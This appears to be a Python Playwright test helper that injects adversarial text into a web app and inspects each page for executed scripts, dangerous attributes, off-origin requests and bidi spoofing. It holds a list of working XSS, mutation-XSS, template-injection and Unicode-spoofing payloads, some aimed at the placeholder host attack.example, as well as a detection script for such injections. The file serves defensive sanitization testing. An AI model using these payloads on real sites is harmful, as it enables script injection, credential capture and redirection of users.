"""Hostile text for a browser, and what is looked at on each page that shows it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from playwright.sync_api import ConsoleMessage, Dialog, Page, Request

RLO, PDF, RLI, LRI = "\u202e", "\u202c", "\u2067", "\u2066"

OWN = [
    "<script>alert(1); window.ran = 1</script>",
    "<img src=x onerror=\"alert(1); window.ran = 1\">",
    "\"><svg/onload=alert(1)>",
    "' autofocus onfocus='alert(1)' x='",
    "</textarea></title></style></template><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<form action=https://attack.example/><button formaction=javascript:alert(1)>Sign in</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<base href=https://attack.example/><meta http-equiv=refresh content='0;url=https://attack.example/'>",
    "<link rel=stylesheet href=https://attack.example/><style>@import 'https://attack.example/'</style>",
    "[a link](javascript:alert(1)) [another](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "[x](https://example.org/\"onmouseover=alert(1)) ![picture](https://attack.example/pixel.png)",
    "{{ 7*7 }} {% include 'base.html' %} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "<div style=\"position:fixed;inset:0\" id=body class=\"btn\">cover</div>",
    f"Access {RLO}reverof{PDF} {RLO} never ended {RLI} nor this {LRI} nor that",
    "Z" + "\u0300\u0301\u0316\u0317" * 60 + "algo",
    "\u200b\u200f\ufeff only seems empty",
]  # fmt: skip

FILES = {
    "blns": "40-adv-blns/blns.json",
    "xss": "42-adv-xss/dompurify/expect.json",
    "commonmark": "41-adv-commonmark/gfm-spec.json",
    "bidi": "46-adv-unicode-bidi/synthetic_bidi_cases.json",
}
"""The lists of the collected real data, by the name of the test's case."""


def strings_of(folder: Path, name: str) -> list[str]:
    """The strings of a list; halves of characters, which no browser can type, become question marks."""
    rows = json.loads((folder / FILES[name]).read_text(encoding="utf-8"))
    return [it.encode("utf-8", "replace").decode() for row in rows for it in _inputs(row)]


def _inputs(row: Any) -> list[str]:
    if isinstance(row, str):
        return [row]
    said = next(row[key] for key in ("payload", "markdown", "s") if key in row)
    return [said] if isinstance(said, str) else said


def joined(strings: list[str], limit: int) -> Iterator[str]:
    """All of them in as few texts as the limit allows, each string a paragraph; every text differs from the draft."""
    text = ""
    for it in strings:
        if text and len(text) + len(it) + 2 > limit:
            yield text
            text = ""
        text += f"{it}\n\n"
    yield text


LOOK = """() => {
    const found = [];
    const say = (it) => found.push(it.outerHTML.slice(0, 200));
    for (const it of document.querySelectorAll("*")) {
        for (const { name, value } of it.attributes) {
            const leads = ["href", "src", "action", "formaction", "xlink:href"].includes(name);
            if (name.startsWith("on") || leads && /^[\\s\\x00-\\x1f]*(javascript|vbscript|data):/i.test(value)) say(it);
        }
        if (it.matches("iframe, object, embed, base, applet, frame, marquee, meta[http-equiv], svg script")) say(it);
        if (it.matches("script") && !it.src.startsWith(location.origin)) say(it);
    }
    const texts = ".prose, .words, blockquote, .passage, .letter-words, .excerpt, .kept, .unsent-words, .as-typed,"
        + " td[dir], dd[dir]";
    const never = "script, style, form, input, button, select, textarea, svg, math, img, video, audio, link, meta,"
        + " template, [style]";
    for (const text of document.querySelectorAll(`${texts}, bdi`)) text.querySelectorAll(never).forEach(say);
    const turning = /[\\u202a-\\u202e\\u2066-\\u2068\\u0590-\\u08ff]/;
    const isApart = ({ display, unicodeBidi }) =>
        !["inline", "contents"].includes(display) || ["isolate", "isolate-override", "plaintext"].includes(unicodeBidi);
    const plain = (words) => words.replace(/\\s+/g, " ").trim();
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walk.nextNode(); node; node = walk.nextNode()) {
        if (!turning.test(node.data) || node.parentElement.closest(texts)) continue;
        let box = node.parentElement;
        while (box !== document.body && !isApart(getComputedStyle(box))) box = box.parentElement;
        const lines = [box.textContent, ...box.innerText.split("\\n")];
        if (!lines.map(plain).includes(plain(node.data)))
            found.push(`turns what is beside it: ${box.outerHTML.slice(0, 300)}`);
    }
    if (window.ran) found.push("a script ran");
    return found;
}"""


@dataclass
class Watch:
    """Whatever happens in a window that must not: `problems` is empty while all is well."""

    page: Page
    base: str
    problems: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", self._dialog)
        self.page.on("console", self._console)
        self.page.on("request", self._request)
        self.page.on("pageerror", lambda error: self._note(f"error {error}"))
        self.page.on("popup", lambda popup: self._note(f"window {popup.url}"))

    def opens(self, *paths: str) -> None:
        """Each must be there, and clean."""
        for path in paths:
            answer = self.page.goto(self.base + path)
            assert answer is not None, path
            assert answer.status == 200, (path, answer.status)
            self.looks()

    def looks(self) -> None:
        """At the page that is open."""
        self.opened.append(self.page.url)
        for found in self.page.evaluate(LOOK):
            self._note(found)

    def _note(self, what: str) -> None:
        self.problems.append(f"{self.page.url}: {what}")

    def _dialog(self, dialog: Dialog) -> None:
        if dialog.type != "beforeunload":
            self._note(f"dialog {dialog.message}")
        dialog.accept()

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            self._note(message.text)

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.base, "about:")):
            self._note(f"request {request.url[:200]}")
